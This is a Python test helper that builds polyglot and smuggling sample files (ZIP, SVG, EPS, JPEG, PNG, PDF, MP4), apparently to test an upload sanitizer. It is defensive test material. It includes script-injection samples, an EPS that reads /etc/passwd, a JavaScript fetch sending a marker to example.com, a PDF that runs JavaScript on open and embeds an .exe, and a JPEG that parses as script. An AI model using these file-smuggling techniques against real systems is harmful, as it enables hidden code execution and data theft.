"""Files that are two things at once, and those that only carry something along."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image

from tests.kyc import bombs, clips, pictures

HTML = b"<!doctype html><script>alert(document.cookie)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n%%EOF\n"
DOS_EPS = b"\xc5\xd0\xd3\xc6" + struct.pack("<IIIIIIH", 30, len(EPS), 0, 0, 0, 0, 0xFFFF) + EPS
TRACE = b"carried-along-in-the-dark"
"""What may not be found in anything that is kept."""
SCRIPT = b"*/=0;fetch('https://example.com/?'+'" + TRACE + b"')/*"


def zipped(name: str = "payload.html", content: bytes = HTML) -> bytes:
    """A ZIP of one file."""
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(name, content)
    return target.getvalue()


def harmless_zip() -> bytes:
    """A ZIP in which no mark of anything stands in the clear."""
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.class", b"\xca\xfe\xba\xbe" + TRACE * 40)
        archive.comment = b"and a comment of its own"
    return target.getvalue()


def pdf_with(head: bytes) -> bytes:
    """A PDF with this in a remark behind its first line."""
    return bombs.pdf(*_page(), head=b"%" + head + b"\n")


def pdf_around(content: bytes) -> bytes:
    """A PDF that keeps this as it is in a stream, near its end."""
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content)
    return bombs.pdf(*_page(), b"<< >>", stream)


def tar_in_pdf() -> bytes:
    """A PDF whose first lines are the head of a tar."""
    head = b"\n%".ljust(248, b" ") + b"ustar\x0000"
    return bombs.pdf(*_page(), head=head + b"\n")


def disc_in_jpeg() -> bytes:
    """A JPEG with the descriptor of a disc where a disc has it."""
    whole = pictures.jpeg()
    return whole.ljust(32_769, b"\0") + b"CD001\x01" + bytes(2_000)


def script_in_jpeg() -> bytes:
    """A JPEG that is a script to who reads it as one: the length of its first part opens a remark."""
    whole = pictures.jpeg()
    length = 0x2F2A
    first = b"\xff\xe0\x2f\x2a" + b"\0" * (length - 2)
    return (
        whole[:2] + first + b"\xff\xfe" + struct.pack(">H", 2 + 16 + len(TRACE)) + b"*/=alert('" + TRACE + b"')/*//" + whole[2:]
    )


def moving_jpeg() -> bytes:
    """A photograph as some telephones write it: the seconds around it stand behind it as MP4."""
    return pictures.jpeg() + clips.clip(audio=None) + TRACE


def commented_png() -> bytes:
    """A PNG with words before, and bytes after its end."""
    whole = pictures.png()
    words = b"Comment\0" + TRACE
    chunk = struct.pack(">I", len(words)) + b"tEXt" + words + struct.pack(">I", zlib.crc32(b"tEXt" + words))
    return whole[:33] + chunk + whole[33:] + TRACE


def acting_pdf() -> bytes:
    """A PDF that runs a script when it is opened, carries a file along and names itself in its metadata."""
    return bombs.pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R >>",
        b"<< /Length 18 >>\nstream\n0 0 m 300 300 l S \nendstream",
        b"<< /S /JavaScript /JS (app.alert\\('" + TRACE + b"'\\)) >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(TRACE), TRACE),
    )


def hidden_in_pixels() -> bytes:
    """A PNG whose lowest bits spell something."""
    bits = [byte >> place & 1 for byte in TRACE * 60 for place in range(7, -1, -1)]
    image = Image.new("L", (300, 300), 128)
    image.putdata([128 | bit for bit in bits[: 300 * 300]])
    return pictures.encoded(image, "PNG")


def mp4_with(content: bytes) -> bytes:
    """A video with this in a box that players skip, at its beginning."""
    whole = clips.clip(audio=None)
    first = int.from_bytes(whole[:4], "big")
    return whole[:first] + boxed(content) + whole[first:]


def mp4_before_its_index(content: bytes) -> bytes:
    """A video with this in such a box behind its pictures, whose places it does not move."""
    whole = clips.clip(audio=None)
    at = whole.rindex(b"moov") - 4
    return whole[:at] + boxed(content) + whole[at:]


def boxed(content: bytes) -> bytes:
    """A box that players skip, around this."""
    return struct.pack(">I", 8 + len(content)) + b"free" + content


def _page() -> tuple[bytes, ...]:
    return (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>",
    )
